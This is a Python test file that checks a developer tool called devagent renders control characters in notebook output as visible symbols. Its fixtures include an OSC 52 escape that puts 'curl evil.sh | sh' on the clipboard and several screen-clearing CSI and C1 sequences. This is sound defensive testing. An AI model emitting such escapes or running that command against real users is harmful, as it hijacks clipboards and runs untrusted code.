"""No value devagent renders can carry a terminal escape into the notebook: control characters in a command, a
script name, an exception, a hyperparameter, a metric name, a git branch, a GPU name or the launch command show
as visible symbols (ESC as ␛), so `cat lab-notebook.md` can neither set the clipboard (OSC 52), clear the screen,
nor ring the bell. The user's own text in the notebook is never touched."""

from __future__ import annotations

import os
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path

import pytest

from devagent.core.gpu.check_report import (
    GpuCheck,
    GpuProcess,
    NvmlGpu,
    NvmlReport,
    TorchDevice,
    TorchReport,
    render_gpu_check,
)
from devagent.core.markdown import printable
from devagent.core.notebook import LaunchContext, SaveRecord, render_header
from devagent.core.runs.exits import ExitInfo
from devagent.core.runs.hparams import argparse_defaults
from devagent.core.runs.metrics import MetricSummary
from devagent.core.runs.record import GitState, GpuMemory, RunRecord
from devagent.core.runs.section import RunReport, render_run

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # puts "curl evil.sh | sh" on the clipboard
CSI = "\x1b[2J\x1b[1;31m"  # clear the screen, red
C1 = "\x9b2J\x9d0;title\x9c"  # the same as 8-bit C1 controls
NASTY = f"x{OSC52}{CSI}\x07{C1}\x7f\r\x00\x08\x0b\x0c\x1c\x85y"
WHEN = datetime(2026, 11, 27, 14, 5, tzinfo=timezone.utc)


def assert_inert(text: str) -> None:
    """TEXT holds no character a terminal acts on: C0 but newline and tab, DEL, C1."""
    bad = sorted({f"U+{ord(c):04X}" for c in text
                  if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F})
    assert bad == [], text


def test_printable_shows_each_control_character_and_keeps_newline_and_tab() -> None:
    assert printable(f"a{OSC52}\tb\n") == "a␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇\tb\n"
    assert printable("\x9b2J\x7f\x00") == "\\x9b2J␡␀"
    assert printable("plain — ünïcode ✅") == "plain — ünïcode ✅"


def test_a_run_section_made_of_hostile_values_holds_no_control_character() -> None:
    argv = ("python", f"tr{NASTY}ain.py", f"--lr={NASTY}", NASTY)
    record = RunRecord(3, False, f"tr{NASTY}ain.py", argv, f"/w/{NASTY}", f"2026{NASTY}", 1.5, 1, "failure",
                       {"lr": NASTY, NASTY: "1"}, {NASTY: 0.5})
    previous = RunRecord(2, False, f"tr{NASTY}ain.py", argv, "/w", "s", 1.0, 0, "success", {"lr": NASTY},
                         {NASTY: 0.7})
    report = RunReport(
        record=record, started_at=WHEN,
        exit=ExitInfo("failure", 1, f"❌ exit 1 · {NASTY}", f"ValueError: {NASTY}"),
        defaults=argparse_defaults(f"p.add_argument('--lr', default='{OSC52}')"), previous=previous,
        git=GitState("abc1234def", f"main{NASTY}", True, ((f"f{NASTY}.py", 1, 2),), f"assets/run{NASTY}.patch"),
        edits_since=[SaveRecord("t", f"model{NASTY}.py", "h", 1, 0)],
        env={"CUDA_VISIBLE_DEVICES": NASTY},
        metrics=[MetricSummary(NASTY, 0.5, 0.4, 3, 10)], metric_sources=(f"runs/{NASTY}/metrics.csv", "output"),
        curve_name=NASTY, curve_image=f"assets/run-3-{NASTY}.png", curve_sparkline="▁▂▃",
        gpu=GpuMemory(1, 2, 3, 4, 2), output_tail=[f"Traceback {NASTY}", f"ValueError: {NASTY}"], output_lines=2,
    )
    text = render_run(report)
    assert_inert(text)
    assert "␛]52;c;" in text  # shown, not dropped: the reader sees that something was there


def test_a_run_section_without_argparse_shows_hostile_argv_inertly() -> None:
    record = RunRecord(1, True, "train.py", ("python", "train.py", NASTY), "/w", "s", None, None, "unknown", {}, {})
    report = RunReport(record, WHEN, ExitInfo("unknown", None, "exit status unknown", None), {}, None, None, None,
                       {}, [], (), NASTY, None, "▁", None, [NASTY], 1)
    assert_inert(render_run(report))


def test_the_notebook_header_made_of_hostile_values_holds_no_control_character() -> None:
    ctx = LaunchContext(NASTY, NASTY, NASTY, NASTY, NASTY, f"devagent up {NASTY}", ((NASTY, NASTY, NASTY),),
                        NASTY, NASTY, NASTY, NASTY, NASTY)
    assert_inert(render_header(ctx))


@pytest.mark.parametrize("torch_ok", [True, False])
def test_a_gpu_check_made_of_hostile_values_holds_no_control_character(torch_ok: bool) -> None:
    gpu = NvmlGpu(0, f"NVIDIA {NASTY}", f"GPU-{NASTY}", 1, 2, 3, (GpuProcess(7, 1, f"python{NASTY}"),))
    check = GpuCheck(
        nvml=NvmlReport(True, NASTY, NASTY, NASTY, (gpu, gpu)),
        torch=TorchReport(torch_ok, f"Traceback\n{NASTY}\nRuntimeError: {NASTY}", f"/usr/bin/{NASTY}", NASTY,
                          NASTY, True, 1, (TorchDevice(f"NVIDIA {NASTY}", 80),)),
        nvidia_smi=f"| {NASTY} |\n{NASTY}\r\n", elapsed_s=1.0,
    )
    assert_inert(render_gpu_check(check, now=WHEN))
    unavailable = GpuCheck(NvmlReport(False, NASTY), TorchReport(False, NASTY, NASTY))
    assert_inert(render_gpu_check(unavailable, now=WHEN))


def test_devagent_run_keeps_escapes_out_of_the_notebook_and_leaves_the_users_own_text_alone(tmp_path: Path) -> None:
    mine = "# my notes\n\n**Observations:** \x1b[1mbold\x1b[0m — typed by me\t(and a tab)\n"
    (tmp_path / "lab-notebook.md").write_text(mine)
    script = tmp_path / f"tr{OSC52}ain.py"
    script.write_text("import sys\nprint('epoch=1 loss=0.5')\nraise SystemExit('boom \\x1b]52;c;eA==\\x07 \\x9b2J')\n")
    env = {k: v for k, v in os.environ.items() if k not in ("DEVAGENT_RUN", "DEVAGENT_LAB_FILE")}
    result = subprocess.run([sys.executable, "-m", "devagent", "run", "--", sys.executable, script.name,
                             f"--tag={CSI}\x07", C1], cwd=tmp_path, env=env, capture_output=True, timeout=120,
                            check=False)
    assert result.returncode == 1, result.stderr
    text = (tmp_path / "lab-notebook.md").read_text()
    assert text.startswith(mine)  # the user's bytes, escape and all, exactly as they were
    added = text[len(mine):]
    assert_inert(added)
    assert "tr␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇ain.py" in added
